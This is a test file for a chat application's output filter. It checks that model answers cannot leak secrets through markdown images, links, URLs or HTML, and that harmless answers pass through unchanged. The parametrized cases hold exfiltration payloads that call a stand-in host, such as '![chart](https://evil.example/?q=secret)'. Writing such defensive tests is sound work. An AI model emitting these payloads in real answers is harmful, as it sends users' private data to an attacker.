"""What leaves: nothing that loads or leads where it may not, and all else unchanged."""

import random

import pytest

from app.chat.outgoing.addresses import addresses
from app.chat.outgoing.leaks import Instructions
from app.chat.outgoing.texts import Rules, TextFilter, leaving
from tests.app.hits import hit
from tests.reliability.exfiltration import (
    OPEN_HOST,
    allowed_addresses,
    attack,
    carried_out,
    forms,
    split,
)
from tests.reliability.harmless import documents, made_up
from tests.reliability.recording import Figure
from tests.reliability.sizes import SEED, size

RULES = Rules(offered=2, addresses=allowed_addresses())


def piecewise(text: str, rng: random.Random, rules: Rules = RULES) -> str:
    texts = TextFilter(rules)
    return "".join(taken(texts, p) for p in split(text, rng)) + texts.flush()


def taken(texts: TextFilter, piece: str) -> str:
    """Return what leaves of a piece: as it is, where that is seen at once."""
    return piece if texts.passes(piece) else texts.feed(piece)


def test_nothing_is_carried_out_in_an_answer(figure: Figure) -> None:
    rng, runs = random.Random(SEED), size(1_000, 10_000)
    assert forms() >= 300
    dangerous, passed = 0, []

    for _ in range(runs):
        text, secret = attack(rng)
        left = piecewise(text, rng)
        dangerous += bool(carried_out(text, secret))
        if found := carried_out(left, secret):
            passed.append((text, left, found))

    figure(
        "exfiltration forms that pass", f"{len(passed)} of {runs:,}", f"0 of {runs:,}"
    )
    assert not passed, passed[:3]
    # Or the judge would see nothing at all.
    assert dangerous > runs / 2


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("![chart](https://evil.example/?q=secret)", "chart"),
        ("a [label](https://evil.example/?q=s) b", "a label b"),
        ("[a][r]\n\n[r]: https://evil.example/s", "[a][r]\n\n[r] : https…"),
        ("See https://evil.example/?q=s now.", "See https… now."),
        ("See <https://evil.example> now.", "See &lt;https…&gt; now."),
        ("See <https://docs.example.com/reset?q=s>.", "See &lt;https://docs.example.com/reset&gt; ."),
        ("a <img www.secret.evil", "a <img www…"),
        ("a <b and c", "a <b and c"),
        ("See www.evil.example/s now.", "See www… now."),
        ('<img src="x"> and <b>bold</b>', '&lt;img src="x"> and <b>bold</b>'),
        ("&#104;ttps&#58;//evil.example/s", "&#104;ttps…"),
        ("[9](https://evil.example) [1](https://evil.example)", "9 [1]"),
        ("mailto:a@example.com?body=s", "mailto: a@example.com?body=s"),
        ("![^1]\n\n[^1]: secret\n", "![^1]\n\n[^1]: secret …\n"),
        ("` ![a](https://evil.example) ", "` a "),
        ("> ```\n![a](https://evil.example)\n", "> ```\na\n"),
        ("| ` | ![a](//evil.example) | ` |", "| ` | a | ` |"),
        ("```mermaid\nclick A 'https://evil.example'\n```", "```mermaid\nclick A 'https…'\n```"),
        (f"![a](https://{OPEN_HOST}/a.png)", f"![a](https://{OPEN_HOST}/a.png)"),
        (f"![a](https://{OPEN_HOST}/a.png?q=s)", "a"),
        (f"https://{OPEN_HOST}/a?b=c d", f"https://{OPEN_HOST}/a d"),
        (f"https://{OPEN_HOST}/~ann/a_b/c.", f"https://{OPEN_HOST}/~ann/a_b/c."),
        (f"**https://{OPEN_HOST}/a_b**, then", f"**https://{OPEN_HOST}/a_b**, then"),
        (f"*https://{OPEN_HOST}/a*https://evil.example/s b", "*https… b"),
        (f"_https://{OPEN_HOST}/a_//evil.example/s b", "_https… b"),
        ("https://docs.example.com/reset?model=2&q=s.", "https://docs.example.com/reset"),
        ("![a](https://docs.example.com/reset)", "a"),
        ("a](https://docs.example.com/reset)secret", "a](https://docs.example.com/reset) secret"),
        ("[a [b](reset.md) c](https://docs.example.com/reset)secret", "[a [b](reset.md) c](https://docs.example.com/reset) secret"),
        ("[`a` b](https://docs.example.com/reset)s", "[`a` b](https://docs.example.com/reset)s"),
        ("```\ncurl https://evil.example\n```", "```\ncurl https://evil.example\n```"),
        ("`https://evil.example`", "`https://evil.example`"),
    ],
)  # fmt: skip
def test_what_may_not_lead_anywhere_stays_as_text(text: str, left: str) -> None:
    assert leaving(text, RULES) == left


def test_harmless_answers_are_unchanged(figure: Figure) -> None:
    rng, changed, count = random.Random(SEED), [], 0

    for part, text in documents():
        rules = Rules(addresses=addresses([hit(text)]), cites=False)
        count += 1
        changed += [part] if piecewise(part, rng, rules) != part else []
    for _ in range(size(500, 5_000)):
        answer = made_up(rng)
        count += 1
        changed += [answer] if piecewise(answer, rng) != answer else []

    share = 1 - len(changed) / count
    figure(
        "harmless answers that leave unchanged", f"{share:.2%} of {count:,}", "99.5 %"
    )
    assert share >= 0.995, changed[:3]


TOKENS = (
    *["[", "]", "(", ")", "!", "`", "``", "```", "~~~", "<", ">", "\\", "&", "&amp;", "&#104;", "&colon;", ":", "/", "//", "https", "http:", "://", "www", "w", "ww.", ".", "evil", "evil.example", "|", "|---|", "-", "#", '"', "'", "=", "<img", "src", "<b>", "<your-name>", "[1]", "[9]", "【9】", "[^1]", "](", "![", "a", "x@y.de", "mailto:", "https://docs.example.com/reset", "?model=2", "mermaid", "svg", "。", "https://help.example.com/a", "é", "*", "_", "$", "{", "}", "SECRET", "one", "two", "three", "four", "five", "six", "seven"],
    *("\n", "\n\n", " ", "  ", "    ", "\t", "\r", "\r\n", "\u00a0", "- ", "> ", "[r]: "),
)  # fmt: skip
OURS = Instructions("one two three four five six seven eight nine ten")


def jumble(rng: random.Random) -> str:
    return "".join(rng.choice(TOKENS) for _ in range(rng.randrange(1, 40)))


def _is_mail(address: str) -> bool:
    return address.startswith("mailto:") and "?" not in address


def test_any_text_leaves_the_same_however_it_is_cut(figure: Figure) -> None:
    rng, runs = random.Random(SEED), size(2_000, 100_000)
    rules = Rules(offered=2, addresses=allowed_addresses(), instructions=OURS)
    plain = Rules(addresses=allowed_addresses(), cites=False)
    unstable = 0

    for _ in range(runs):
        text = jumble(rng)
        texts, left = TextFilter(rules), ""
        for piece in split(text, rng):
            left += taken(texts, piece)
            assert texts.held <= 64, text
        left += texts.flush()
        assert left == leaving(text, rules), text
        carried = carried_out(left, "SECRET")
        # Whoever writes to an address of mail does so by hand; without more, they stand.
        assert all(_is_mail(address) for _, address in carried), (text, carried)
        once = leaving(text, plain)
        unstable += leaving(once, plain) != once

    figure(
        "texts of signs that a filter would change twice",
        f"{unstable} of {runs:,}",
        "1 of 1,000 at most",
    )
    assert unstable <= runs / 1_000 + 1
